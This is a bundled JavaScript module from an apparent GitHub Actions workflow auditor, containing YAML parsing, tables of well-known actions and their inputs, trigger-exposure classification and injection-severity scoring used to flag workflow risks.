export const id = 729;
export const ids = [729];
export const modules = {

/***/ 15729:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  ix: () => (/* reexport */ CONFIDENCES),
  QY: () => (/* reexport */ assertWorkflowParses),
  Hq: () => (/* reexport */ auditAll),
  BC: () => (/* reexport */ collectAuditInputs),
  A3: () => (/* reexport */ decodeAdvisorySnapshot),
  oc: () => (/* reexport */ decodeTimings),
  jA: () => (/* reexport */ estimate),
  Yw: () => (/* reexport */ formatAuditSarif),
  bW: () => (/* reexport */ formatAuditSummary),
  ke: () => (/* reexport */ formatAuditText),
  fc: () => (/* reexport */ formatEstimateText),
  Mc: () => (/* reexport */ githubApi),
  aq: () => (/* reexport */ jobGraph),
  Fz: () => (/* reexport */ pinsFromApi),
  j4: () => (/* reexport */ pinsFromFile),
  T9: () => (/* reexport */ planFixes),
  HI: () => (/* reexport */ refreshAdvisories),
  bD: () => (/* reexport */ runAudit),
  ES: () => (/* reexport */ unusedTimings),
  M2: () => (/* reexport */ workflowNameOf)
});

// UNUSED EXPORTS: INVALID_FILE, INVALID_SUPPRESSION, ONLINE_RULES, RULES, SEVERITIES, auditText, buildAuditRecord, embeddedExpressions, exposureOf, expressionSources, fileKind, fixFile, formatAuditRecordSummary, githubParserErrors, inRange, injectionSeverity, onlineFindings, parseExpression, parseWithGitHub, readSuppressions, shippedAdvisories, summarise, templateExpressions, unifiedDiff

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./packages/core/src/index.ts + 26 modules
var src = __webpack_require__(63220);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/index.js
var dist = __webpack_require__(22657);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/model/convert.js + 23 modules
var convert = __webpack_require__(89443);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-parser.js
var action_parser = __webpack_require__(20007);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-constants.js
var action_constants = __webpack_require__(91415);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-schema.js + 1 modules
var action_schema = __webpack_require__(68590);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-context.js + 1 modules
var template_context = __webpack_require__(15071);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-reader.js + 1 modules
var template_reader = __webpack_require__(66074);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-constants.js
var workflow_constants = __webpack_require__(33959);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-schema.js + 1 modules
var workflow_schema = __webpack_require__(32363);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/yaml-object-reader.js
var yaml_object_reader = __webpack_require__(80589);
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var yaml_dist = __webpack_require__(38815);
;// CONCATENATED MODULE: ./packages/workflows/src/yaml-tree.ts


/** Parses YAML into a located tree; invalid YAML is a UserError naming the file, line and column. */
function parseYamlTree(content, source) {
    const counter = new yaml_dist/* LineCounter */.HN();
    const doc = (0,yaml_dist/* parseDocument */.Tp)(content, { lineCounter: counter, uniqueKeys: true, prettyErrors: false });
    const first = doc.errors[0];
    if (first) {
        const at = counter.linePos(first.pos[0]);
        throw new src/* UserError */.yo(`${source}:${at.line}:${at.col}: not valid YAML: ${first.message.split('\n')[0] ?? ''}`);
    }
    return treeFromDocument(doc, counter, content);
}
/** The located tree of a document the `yaml` package already parsed (GitHub's parser shares its parse). */
function treeFromDocument(doc, counter, content) {
    const locate = (node, fallback) => {
        const offset = node?.range?.[0] ?? fallback;
        const pos = counter.linePos(offset);
        return { line: pos.line, column: pos.col };
    };
    const convert = (node, fallback) => {
        if ((0,yaml_dist/* isMap */.jh)(node)) {
            const at = locate(node, fallback);
            const entries = new Map();
            const keys = new Map();
            for (const pair of node.items) {
                const key = (0,yaml_dist/* isScalar */.jn)(pair.key) ? String(pair.key.value) : String(pair.key);
                const keyAt = locate((0,yaml_dist/* isScalar */.jn)(pair.key) ? pair.key : undefined, at.line);
                keys.set(key, keyAt);
                entries.set(key, convert(pair.value, (0,yaml_dist/* isScalar */.jn)(pair.key) ? (pair.key.range?.[0] ?? 0) : 0));
            }
            return { kind: 'map', ...at, entries, keys };
        }
        if ((0,yaml_dist/* isSeq */.oP)(node)) {
            return { kind: 'seq', ...locate(node, fallback), items: node.items.map((item) => convert(item, node.range?.[0] ?? fallback)) };
        }
        if ((0,yaml_dist/* isScalar */.jn)(node)) {
            const v = node.value;
            // The core schema yields strings, numbers, booleans and null; anything else is kept as its source text.
            const value = typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean' || v === null ? v : (node.source ?? '');
            return { kind: 'scalar', ...locate(node, fallback), value };
        }
        // An empty value (`on: push:` with nothing after) is null at the key's place.
        return { kind: 'scalar', ...locate(undefined, fallback), value: null };
    };
    return { root: convert(doc.contents, 0), lines: content.split(/\r?\n/) };
}
/** The child of a mapping, or undefined. */
function child(node, key) {
    return node?.kind === 'map' ? node.entries.get(key) : undefined;
}
/** A scalar as text (numbers and booleans too), or undefined for maps, sequences and null. */
function yaml_tree_text(node) {
    return node?.kind === 'scalar' && node.value !== null ? String(node.value) : undefined;
}
/** The items of a sequence, or the node itself as a one-item list (YAML's `x` or `[x]`). */
function items(node) {
    if (!node)
        return [];
    return node.kind === 'seq' ? node.items : [node];
}
/** The entries of a mapping, in file order. */
function entries(node) {
    return node?.kind === 'map' ? [...node.entries] : [];
}
/** Where a key of a mapping is written, falling back to the mapping itself. */
function keyLine(node, key) {
    if (node?.kind === 'map')
        return node.keys.get(key)?.line ?? node.line;
    return node?.line ?? 1;
}

;// CONCATENATED MODULE: ./packages/workflows/src/github-parser.ts












function errorsOf(context) {
    return context.errors.getErrors().map((e) => ({
        // The parser prefixes messages with the file name and position; we report those separately.
        message: e.rawMessage,
        line: e.range?.start.line ?? 1,
        column: e.range?.start.column ?? 1,
    }));
}
/**
 * Validates a workflow (schema, then the conversion that checks `needs:`, matrix and call
 * inputs) or an action's metadata with `@actions/workflow-parser`, GitHub's own parser.
 */
async function githubParserErrors(kind, name, content) {
    const file = { name, content };
    const trace = new dist/* NoOperationTraceWriter */.P0();
    const result = kind === 'workflow' ? (0,dist/* parseWorkflow */.hM)(file, trace) : (0,action_parser/* parseAction */.w)(file, trace);
    if (kind === 'workflow' && result.value) {
        await (0,dist/* convertWorkflowTemplate */.DE)(result.context, result.value, undefined, { errorPolicy: convert/* ErrorPolicy */.t.TryConversion });
    }
    return errorsOf(result.context);
}
/**
 * Refuses a workflow that GitHub's parser rejects, naming the file and the first errors'
 * places: a tool that reads a workflow (an estimate) must not go on with the part it understood.
 */
async function assertWorkflowParses(content, source) {
    const errors = await githubParserErrors('workflow', source, content);
    if (errors.length === 0)
        return;
    const shown = errors.slice(0, 3).map((e) => `${source}:${e.line}:${e.column}: ${e.message}`);
    throw new src/* UserError */.yo(`${source} is not a workflow GitHub accepts:\n  ${shown.join('\n  ')}${errors.length > 3 ? `\n  (and ${errors.length - 3} more)` : ''}`, {
        code: src/* errorCodes */.fv.invalidInput,
        hint: 'correct the workflow (slipway audit shows every error), or give the right file',
    });
}
async function parseWithGitHub(kind, name, content) {
    const context = new template_context/* TemplateContext */.m(new template_context/* TemplateValidationErrors */.R(), kind === 'workflow' ? (0,workflow_schema/* getWorkflowSchema */.L)() : (0,action_schema/* getActionSchema */.E)(), new dist/* NoOperationTraceWriter */.P0());
    const fileId = context.getFileId(name);
    const reader = new yaml_object_reader/* YamlObjectReader */.M(fileId, content);
    if (reader.errors.length > 0) {
        for (const err of reader.errors)
            context.error(fileId, err.message, err.range);
        return { errors: errorsOf(context), tree: undefined };
    }
    const template = (0,template_reader/* readTemplate */.x)(context, kind === 'workflow' ? workflow_constants/* WORKFLOW_ROOT */.D : action_constants/* ACTION_ROOT */.Y, reader, fileId);
    if (kind === 'workflow' && template)
        await (0,dist/* convertWorkflowTemplate */.DE)(context, template, undefined, { errorPolicy: convert/* ErrorPolicy */.t.TryConversion });
    const internal = reader;
    return { errors: errorsOf(context), tree: treeFromDocument(internal.doc, internal.lineCounter, content) };
}

;// CONCATENATED MODULE: ./packages/workflows/src/known-actions.ts
// Facts about well-known actions that the rules and fixes rely on. Each entry names where the
// fact comes from: the input's description in the action's own action.yml (or README) at the
// action's repository.
/** Inputs whose value an action runs as code (a script, a shell command), by action. */
const SCRIPT_INPUTS = {
    'actions/github-script': { inputs: ['script'], language: 'JavaScript', source: 'actions/github-script action.yml: script' },
    'azure/cli': { inputs: ['inlinescript'], language: 'shell', source: 'Azure/cli action.yml: inlineScript' },
    'azure/powershell': { inputs: ['inlinescript'], language: 'PowerShell', source: 'Azure/powershell action.yml: inlineScript' },
    'appleboy/ssh-action': { inputs: ['script'], language: 'remote shell', source: 'appleboy/ssh-action action.yml: script' },
    'uraimo/run-on-arch-action': {
        inputs: ['run', 'install'],
        language: 'shell',
        source: 'uraimo/run-on-arch-action action.yml: run, install',
    },
    'cross-platform-actions/action': { inputs: ['run'], language: 'shell', source: 'cross-platform-actions/action action.yml: run' },
    'addnab/docker-run-action': { inputs: ['run'], language: 'shell', source: 'addnab/docker-run-action action.yml: run' },
    'nick-fields/retry': { inputs: ['command', 'on_retry_command'], language: 'shell', source: 'nick-fields/retry action.yml: command' },
    'wandalen/wretry.action': { inputs: ['command'], language: 'shell', source: 'Wandalen/wretry.action action.yml: command' },
    'mikefarah/yq': { inputs: ['cmd'], language: 'shell', source: 'mikefarah/yq action.yml: cmd' },
    'jannekem/run-python-script-action': {
        inputs: ['script'],
        language: 'Python',
        source: 'jannekem/run-python-script-action action.yml: script',
    },
    'pytooling/actions/with-post-step': {
        inputs: ['main', 'post'],
        language: 'shell',
        source: 'pyTooling/Actions with-post-step action.yml: main, post',
    },
    'cypress-io/github-action': {
        inputs: ['build', 'start', 'command'],
        language: 'shell',
        source: 'cypress-io/github-action action.yml: build, start, command',
    },
    'garygrossgarten/github-action-ssh': {
        inputs: ['command'],
        language: 'remote shell',
        source: 'garygrossgarten/github-action-ssh action.yml: command',
    },
    'google-github-actions/ssh-compute': {
        inputs: ['command'],
        language: 'remote shell',
        source: 'google-github-actions/ssh-compute action.yml: command',
    },
    'jimcronqvist/action-ssh': { inputs: ['command'], language: 'remote shell', source: 'JimCronqvist/action-ssh action.yml: command' },
    'matlab-actions/run-command': { inputs: ['command'], language: 'MATLAB', source: 'matlab-actions/run-command action.yml: command' },
    'docker://': { inputs: ['args', 'entrypoint'], language: 'container command', source: 'workflow syntax: jobs.<id>.steps[*].with.args' },
};
/** Actions that restore a cache (and the input that turns restoring off), for cache poisoning. */
const CACHE_AWARE = {
    'actions/cache': {},
    'actions/cache/restore': {},
    'actions/setup-node': { opt: { input: 'cache', value: /./ } },
    'actions/setup-python': { opt: { input: 'cache', value: /./ } },
    'actions/setup-java': { opt: { input: 'cache', value: /./ } },
    // setup-go restores a cache by default from v4 on (its README); earlier majors have no cache input.
    'actions/setup-go': { off: { input: 'cache', value: 'false' }, sinceMajor: 4 },
    'actions/setup-dotnet': { opt: { input: 'cache', value: /^true$/ } },
    'astral-sh/setup-uv': { opt: { input: 'enable-cache', value: /^(true|auto)$/ } },
    'swatinem/rust-cache': { off: { input: 'lookup-only', value: 'true' } },
    'ruby/setup-ruby': { opt: { input: 'bundler-cache', value: /^true$/ } },
    'pnpm/action-setup': {},
    'gradle/actions/setup-gradle': { off: { input: 'cache-disabled', value: 'true' } },
    'gradle/gradle-build-action': { off: { input: 'cache-disabled', value: 'true' } },
    'mozilla-actions/sccache-action': {},
    'hendrikmuhs/ccache-action': {},
    'docker/setup-buildx-action': {},
};
/** Publishing actions that accept a long-lived token where the registry offers trusted publishing (OIDC). */
const PUBLISHERS = {
    'pypa/gh-action-pypi-publish': { tokenInputs: ['password'], registry: 'PyPI' },
    'rubygems/release-gem': { tokenInputs: [], registry: 'RubyGems' },
    'rubygems/configure-rubygems-credentials': { tokenInputs: ['api-token'], registry: 'RubyGems' },
    'js-devtools/npm-publish': { tokenInputs: ['token'], registry: 'npm' },
    'katyo/publish-crates': { tokenInputs: ['registry-token'], registry: 'crates.io' },
};
/** Actions whose work the runner's own tools (`gh`, `docker`, `jq`) do in a script step. */
const SUPERFLUOUS = {
    'ncipollo/release-action': 'use `gh release create` in a run step',
    'softprops/action-gh-release': 'use `gh release create` / `gh release upload` in a run step',
    'elgohr/github-release-action': 'use `gh release create` in a run step',
    'svenstaro/upload-release-action': 'use `gh release upload` in a run step',
    'dacbd/create-issue-action': 'use `gh issue create` in a run step',
    'actions-ecosystem/action-add-labels': 'use `gh issue edit --add-label` in a run step',
    'actions-ecosystem/action-remove-labels': 'use `gh issue edit --remove-label` in a run step',
    'addnab/docker-run-action': 'use `docker run` in a run step, or a container step',
    'sergeysova/jq-action': 'use `jq` (installed on hosted runners) in a run step',
    'actions/create-release': 'archived: use `gh release create` in a run step',
    'actions/upload-release-asset': 'archived: use `gh release upload` in a run step',
};
/** Repositories GitHub has archived, whose actions get no fixes (read from each repository's page). */
const ARCHIVED = {
    'actions/create-release': 'gh release create',
    'actions/upload-release-asset': 'gh release upload',
    'actions/setup-ruby': 'ruby/setup-ruby',
    'actions/setup-elixir': 'erlef/setup-beam',
    'actions/setup-haskell': 'haskell-actions/setup',
    'actions-rs/toolchain': 'dtolnay/rust-toolchain or rustup in a run step',
    'actions-rs/cargo': 'cargo in a run step',
    'actions-rs/clippy-check': 'cargo clippy in a run step',
    'actions-rs/audit-check': 'rustsec/audit-check',
    'actions-rs/tarpaulin': 'cargo tarpaulin in a run step',
    'actions-rs/grcov': 'grcov in a run step',
    'actions/starter-workflows': '',
};
/** Inputs that select an unpinned tool version (`latest`), and whether leaving them out does too. */
const UNPINNED_TOOLS = {
    'aquasecurity/setup-trivy': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
    '1password/load-secrets-action': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
    'extractions/setup-just': { input: 'just-version', latest: /^\*$/, defaultUnpinned: true },
    'golangci/golangci-lint-action': { input: 'version', latest: /^latest$/, defaultUnpinned: false },
    'sigstore/cosign-installer': { input: 'cosign-release', latest: /^latest$/, defaultUnpinned: false },
    'anchore/sbom-action': { input: 'syft-version', latest: /^latest$/, defaultUnpinned: false },
    'hashicorp/setup-terraform': { input: 'terraform_version', latest: /^latest$/, defaultUnpinned: true },
    'azure/setup-helm': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
    'azure/setup-kubectl': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
};
/** Action repositories with the most dependents, for typosquatting comparisons. */
const POPULAR_ACTIONS = [
    'actions/checkout',
    'actions/setup-node',
    'actions/setup-python',
    'actions/setup-java',
    'actions/setup-go',
    'actions/setup-dotnet',
    'actions/cache',
    'actions/upload-artifact',
    'actions/download-artifact',
    'actions/github-script',
    'actions/labeler',
    'actions/stale',
    'actions/attest-build-provenance',
    'actions/deploy-pages',
    'actions/upload-pages-artifact',
    'actions/configure-pages',
    'actions/create-github-app-token',
    'actions/dependency-review-action',
    'github/codeql-action',
    'docker/login-action',
    'docker/build-push-action',
    'docker/setup-buildx-action',
    'docker/setup-qemu-action',
    'docker/metadata-action',
    'aws-actions/configure-aws-credentials',
    'azure/login',
    'google-github-actions/auth',
    'google-github-actions/setup-gcloud',
    'hashicorp/setup-terraform',
    'peter-evans/create-pull-request',
    'softprops/action-gh-release',
    'codecov/codecov-action',
    'pypa/gh-action-pypi-publish',
    'ossf/scorecard-action',
    'step-security/harden-runner',
    'sigstore/cosign-installer',
    'tj-actions/changed-files',
    'dorny/paths-filter',
    'golangci/golangci-lint-action',
    'goreleaser/goreleaser-action',
    'ruby/setup-ruby',
    'astral-sh/setup-uv',
    'pnpm/action-setup',
    'swatinem/rust-cache',
    'dtolnay/rust-toolchain',
    'gradle/actions',
    'slackapi/slack-github-action',
    'jasonetco/create-an-issue',
    'anchore/sbom-action',
    'aquasecurity/trivy-action',
    'shivammathur/setup-php',
    'subosito/flutter-action',
    'azure/webapps-deploy',
    'mikefarah/yq',
    'crazy-max/ghaction-import-gpg',
];
/** Token scopes a well-known action needs (from its README's "permissions" section). */
const PERMISSIONS_NEEDED = {
    'actions/checkout': { contents: 'read' },
    'actions/cache': {},
    'actions/cache/save': {},
    'actions/cache/restore': {},
    'actions/setup-node': {},
    'actions/setup-python': {},
    'actions/setup-java': {},
    'actions/setup-go': {},
    'actions/setup-dotnet': {},
    'actions/upload-artifact': {},
    'actions/download-artifact': {},
    'actions/upload-pages-artifact': {},
    'actions/configure-pages': { pages: 'write' },
    'actions/deploy-pages': { pages: 'write', 'id-token': 'write' },
    'actions/labeler': { contents: 'read', 'pull-requests': 'write' },
    'actions/stale': { issues: 'write', 'pull-requests': 'write' },
    'actions/attest-build-provenance': { 'id-token': 'write', attestations: 'write' },
    'actions/attest': { 'id-token': 'write', attestations: 'write' },
    'actions/dependency-review-action': { contents: 'read' },
    'github/codeql-action/init': { 'security-events': 'write', actions: 'read', contents: 'read' },
    'github/codeql-action/analyze': { 'security-events': 'write', actions: 'read', contents: 'read' },
    'github/codeql-action/autobuild': {},
    'github/codeql-action/upload-sarif': { 'security-events': 'write' },
    'ossf/scorecard-action': { 'security-events': 'write', 'id-token': 'write', contents: 'read', actions: 'read' },
    'pypa/gh-action-pypi-publish': { 'id-token': 'write' },
    'aws-actions/configure-aws-credentials': { 'id-token': 'write' },
    'google-github-actions/auth': { 'id-token': 'write' },
    'azure/login': { 'id-token': 'write' },
    'softprops/action-gh-release': { contents: 'write' },
    'ncipollo/release-action': { contents: 'write' },
    'peter-evans/create-pull-request': { contents: 'write', 'pull-requests': 'write' },
    'marocchino/sticky-pull-request-comment': { 'pull-requests': 'write' },
    'step-security/harden-runner': {},
    'sigstore/cosign-installer': {},
    'docker/setup-buildx-action': {},
    'docker/setup-qemu-action': {},
    'docker/metadata-action': {},
    'codecov/codecov-action': {},
    'astral-sh/setup-uv': {},
    'swatinem/rust-cache': {},
    'dtolnay/rust-toolchain': {},
    'ruby/setup-ruby': {},
    'pnpm/action-setup': {},
    'golangci/golangci-lint-action': { contents: 'read' },
};
/** Inputs of popular actions (from each action.yml's `inputs:`), for typo checks of `with:`. */
const ACTION_INPUTS = {
    'actions/checkout': [
        'repository',
        'ref',
        'token',
        'ssh-key',
        'ssh-known-hosts',
        'ssh-strict',
        'ssh-user',
        'persist-credentials',
        'path',
        'clean',
        'filter',
        'sparse-checkout',
        'sparse-checkout-cone-mode',
        'fetch-depth',
        'fetch-tags',
        'show-progress',
        'lfs',
        'submodules',
        'set-safe-directory',
        'github-server-url',
    ],
    'actions/cache': [
        'path',
        'key',
        'restore-keys',
        'upload-chunk-size',
        'enablecrossosarchive',
        'fail-on-cache-miss',
        'lookup-only',
        'save-always',
    ],
    'actions/upload-artifact': [
        'name',
        'path',
        'if-no-files-found',
        'retention-days',
        'compression-level',
        'overwrite',
        'include-hidden-files',
    ],
    'actions/github-script': [
        'script',
        'github-token',
        'debug',
        'user-agent',
        'previews',
        'result-encoding',
        'retries',
        'retry-exempt-status-codes',
        'base-url',
    ],
};
/** Actions that upload files where others can read them (artifacts, pages). */
const UPLOADERS = new Set(['actions/upload-artifact', 'actions/upload-pages-artifact']);

;// CONCATENATED MODULE: ./packages/workflows/src/triggers.ts
/**
 * Triggers that run with the base repository's secrets and a writing token while outsiders
 * choose the event's content: pull_request_target, workflow_run (after a fork's run), and the
 * issue, comment and discussion events anyone can raise on a public repository.
 */
const PRIVILEGED_TRIGGERS = [
    'pull_request_target',
    'workflow_run',
    'issue_comment',
    'issues',
    'discussion',
    'discussion_comment',
];
/** Triggers whose runs carry outsiders' content without secrets (a fork's pull request). */
const UNPRIVILEGED_OUTSIDER_TRIGGERS = ['pull_request', 'pull_request_review', 'pull_request_review_comment'];
/** The exposure of a set of trigger names. */
function exposureOf(triggers) {
    const names = [...triggers];
    if (names.some((t) => PRIVILEGED_TRIGGERS.includes(t)))
        return 'privileged';
    // A called workflow inherits its caller's trigger: assume it can be a privileged one.
    if (names.includes('workflow_call'))
        return 'internal';
    if (names.length > 0 && names.every((t) => UNPRIVILEGED_OUTSIDER_TRIGGERS.includes(t)))
        return 'unprivileged';
    return 'internal';
}
/**
 * Severity of outsiders' data reaching code: free text in a privileged trigger is critical, in a
 * push or call (merged commit messages, a caller's event) high, in a fork's own unprivileged run
 * medium; constrained values cannot carry shell syntax and are low.
 */
function injectionSeverity(taint, exposure) {
    if (taint === 'trusted')
        return undefined;
    if (taint === 'constrained')
        return 'low';
    return exposure === 'privileged' ? 'critical' : exposure === 'internal' ? 'high' : 'medium';
}

;// CONCATENATED MODULE: ./packages/workflows/src/workflow-model.ts


function stepsOf(node) {
    return items(node).map((step, index) => ({
        node: step,
        line: step.line,
        index,
        id: yaml_tree_text(child(step, 'id')),
        uses: yaml_tree_text(child(step, 'uses'))?.trim(),
        usesLine: child(step, 'uses')?.line ?? step.line,
        run: yaml_tree_text(child(step, 'run')),
        runLine: child(step, 'run')?.line ?? step.line,
        with: child(step, 'with'),
        env: child(step, 'env'),
    }));
}
/** Builds the model of a parsed workflow or action file. */
function workflowModel(kind, doc) {
    const root = doc.root;
    const triggers = new Map();
    // YAML 1.1 readers turn a bare `on` into true; the `yaml` package keeps the key as 'on'.
    const on = child(root, 'on') ?? child(root, 'true');
    if (on?.kind === 'map')
        for (const [name] of entries(on))
            triggers.set(name, keyLine(on, name));
    else
        for (const item of items(on))
            if (yaml_tree_text(item))
                triggers.set(yaml_tree_text(item) ?? '', item.line);
    const inputs = new Map();
    const jobs = [];
    if (kind === 'workflow') {
        for (const event of ['workflow_dispatch', 'workflow_call']) {
            for (const [name, def] of entries(child(child(on, event), 'inputs')))
                if (!inputs.has(name) || event === 'workflow_call')
                    inputs.set(name, { type: yaml_tree_text(child(def, 'type')) ?? 'string', node: def });
        }
        for (const [id, job] of entries(child(root, 'jobs'))) {
            jobs.push({
                id,
                node: job,
                line: keyLine(child(root, 'jobs'), id),
                calls: yaml_tree_text(child(job, 'uses'))?.trim(),
                steps: stepsOf(child(job, 'steps')),
                needs: items(child(job, 'needs'))
                    .map(yaml_tree_text)
                    .filter((n) => n !== undefined),
                env: child(job, 'env'),
                matrix: child(child(job, 'strategy'), 'matrix'),
            });
        }
    }
    else {
        for (const [name, def] of entries(child(root, 'inputs')))
            inputs.set(name, { type: 'string', node: def });
        const runs = child(root, 'runs');
        if (yaml_tree_text(child(runs, 'using')) === 'composite') {
            jobs.push({
                id: '(composite)',
                node: runs ?? root,
                line: runs?.line ?? 1,
                calls: undefined,
                steps: stepsOf(child(runs, 'steps')),
                needs: [],
                env: undefined,
                matrix: undefined,
            });
        }
    }
    const exposure = kind === 'action' ? 'internal' : exposureOf(triggers.keys());
    return { kind, doc, root, triggers, on, exposure, jobs, env: child(root, 'env'), inputs };
}
/** The action a `uses:` names, without its ref: `actions/checkout`, `./local`, `docker://img`. */
function actionName(uses) {
    const at = uses.lastIndexOf('@');
    return (at > 0 && !uses.startsWith('docker://') ? uses.slice(0, at) : uses).toLowerCase();
}
/** The `owner/repo` of an action (`actions/cache/save` is `actions/cache`), lower case. */
function actionRepo(uses) {
    return actionName(uses).split('/').slice(0, 2).join('/');
}
/** `owner/repo[/path]@ref` split into its parts; undefined for local (`./`, `$/`) and docker uses. */
function remoteUses(uses) {
    const trimmed = uses.trim();
    if (trimmed.startsWith('./') || trimmed.startsWith('$/') || trimmed.startsWith('docker://'))
        return undefined;
    const at = trimmed.lastIndexOf('@');
    const name = at < 0 ? trimmed : trimmed.slice(0, at);
    const [owner = '', repo = '', ...path] = name.split('/');
    return { owner: owner.toLowerCase(), repo: repo.toLowerCase(), path: path.join('/'), ref: at < 0 ? '' : trimmed.slice(at + 1) };
}
/** The scalar value of `with.<input>` of a step. */
function withValue(step, input) {
    return yaml_tree_text(child(step.with, input));
}
/** The taint scope of a step: its env, the job's and the workflow's; the job's static matrix; the declared inputs. */
function stepScope(model, job, step) {
    return {
        env(name) {
            for (const scope of [step?.env, job.env, model.env]) {
                const v = child(scope, name);
                if (v)
                    return yaml_tree_text(v) ?? '';
            }
            return undefined;
        },
        matrix(name) {
            const m = job.matrix;
            if (!m)
                return undefined;
            const whole = yaml_tree_text(m);
            if (whole !== undefined)
                return /\$\{\{/.test(whole) ? { expression: whole.replace(/^\s*\$\{\{|\}\}\s*$/g, '') } : { literal: true };
            const values = [...items(child(m, name)), ...items(child(m, 'include')).map((i) => child(i, name))].filter((v) => v !== undefined);
            const dynamic = values.map(yaml_tree_text).find((v) => v !== undefined && /\$\{\{/.test(v));
            if (dynamic)
                return { expression: dynamic.replace(/^\s*\$\{\{|\}\}\s*$/g, '') };
            return { literal: true };
        },
        inputType: (name) => model.inputs.get(name)?.type,
        inputsFromCaller: model.kind === 'action' || model.triggers.has('workflow_call'),
        stepUses: (id) => job.steps.find((s) => s.id === id)?.uses,
    };
}

;// CONCATENATED MODULE: ./packages/workflows/src/rules/action-inputs.ts



/** The declared inputs of a local action (`./path`), from its action.yml, with which are required. */
function localInputs(content, source) {
    try {
        const root = parseYamlTree(content, source).root;
        const out = new Map();
        for (const [name, def] of entries(child(root, 'inputs')))
            out.set(name.toLowerCase(), yaml_tree_text(child(def, 'required')) === 'true' && child(def, 'default') === undefined);
        return out;
    }
    catch {
        return undefined;
    }
}
/** `with:` keys an action does not declare, and required inputs left out (local actions and popular ones). */
const actionInputs = {
    id: 'action-inputs',
    title: 'Input the action does not have, or a required one missing',
    severity: 'medium',
    confidence: 'high',
    category: 'validation',
    description: "GitHub passes unknown `with:` keys on with only a warning in the log, so a misspelt input (`persist-credential`) silently keeps the action's default; a missing required input fails at run time.",
    fix: "Use the input names from the action's action.yml.",
    appliesTo: ['workflow', 'action'],
    check(model, options) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                if (!step.uses)
                    continue;
                let declared;
                let confidence = 'high';
                if (step.uses.startsWith('./')) {
                    const path = step.uses.slice(2).replace(/\/$/, '');
                    const content = options.readLocalAction?.(path);
                    if (content !== undefined)
                        declared = localInputs(content, `${path}/action.yml`);
                }
                else {
                    const known = ACTION_INPUTS[actionName(step.uses)];
                    // Popular actions add inputs between major versions: an unknown one is likely, not certain.
                    if (known)
                        [declared, confidence] = [new Map(known.map((k) => [k, false])), 'medium'];
                }
                if (!declared)
                    continue;
                for (const [name] of entries(step.with))
                    if (!declared.has(name.toLowerCase()))
                        out.push({ message: `${step.uses.replace(/@.*/, '')} has no input '${name}'`, line: keyLine(step.with, name), confidence });
                for (const [name, required] of declared)
                    if (required && !entries(step.with).some(([k]) => k.toLowerCase() === name))
                        out.push({ message: `${step.uses} requires the input '${name}'`, line: step.usesLine });
            }
        return out;
    },
};

// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/index.js + 17 modules
var expressions_dist = __webpack_require__(17928);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/ast.js
var ast = __webpack_require__(12049);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/result.js
var result = __webpack_require__(96856);
;// CONCATENATED MODULE: ./packages/workflows/src/expressions.ts




/**
 * The `${{ }}` expressions of a string, found the way GitHub's template reader finds them: an
 * expression ends at the first `}}` outside a single-quoted string literal, so
 * `${{ format('}}{0}', x) }}` is one expression. An unclosed `${{` ends the scan (GitHub's
 * parser reports it).
 */
function embeddedExpressions(text) {
    const out = [];
    let from = text.indexOf('${{');
    while (from >= 0) {
        let quoted = false;
        let end = -1;
        for (let i = from + 3; i < text.length; i += 1) {
            const c = text[i];
            if (c === "'")
                quoted = !quoted;
            else if (!quoted && c === '}' && text[i - 1] === '}' && i - 1 > from + 2) {
                end = i + 1;
                break;
            }
        }
        if (end < 0)
            break;
        out.push({ source: text.slice(from + 3, end - 2).trim(), start: from, end });
        from = text.indexOf('${{', end);
    }
    return out;
}
const CONTEXTS = ['github', 'env', 'inputs', 'steps', 'needs', 'matrix', 'strategy', 'secrets', 'vars', 'runner', 'job', 'jobs'];
const FUNCTIONS = [
    { name: 'hashFiles', minArgs: 1, maxArgs: 255 },
    { name: 'success', minArgs: 0, maxArgs: 0 },
    { name: 'always', minArgs: 0, maxArgs: 0 },
    { name: 'failure', minArgs: 0, maxArgs: 255 },
    { name: 'cancelled', minArgs: 0, maxArgs: 0 },
];
const cache = new Map();
/** Parses an expression with GitHub's own parser; undefined when it does not parse (GitHub's parser reports why). */
function parseExpression(source) {
    const hit = cache.get(source);
    if (hit !== undefined)
        return hit ?? undefined;
    let parsed;
    try {
        parsed = new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(source).lex().tokens, CONTEXTS, FUNCTIONS).parse();
    }
    catch {
        parsed = null;
    }
    if (cache.size > 20_000)
        cache.clear();
    cache.set(source, parsed);
    return parsed ?? undefined;
}
/** The path of a context access chain (`github.event['x'].y`), or undefined when an index is computed. */
function accessPath(e) {
    if (e instanceof ast/* ContextAccess */.QC)
        return [e.name.lexeme];
    if (e instanceof ast/* IndexAccess */.p_) {
        const base = accessPath(e.expr);
        if (!base)
            return undefined;
        if (e.index instanceof ast/* Star */.FE)
            return [...base, '*'];
        if (e.index instanceof ast/* Literal */.uS)
            return [...base, String(literalValue(e.index))];
        return [...base, '?'];
    }
    return undefined;
}
/** The JavaScript value of a literal. */
function literalValue(l) {
    const d = l.literal;
    if (d.kind === expressions_dist/* data.Kind */.p.b8.Null)
        return null;
    return d.value;
}
/** Every context path an expression reads, including inside function arguments and comparisons. */
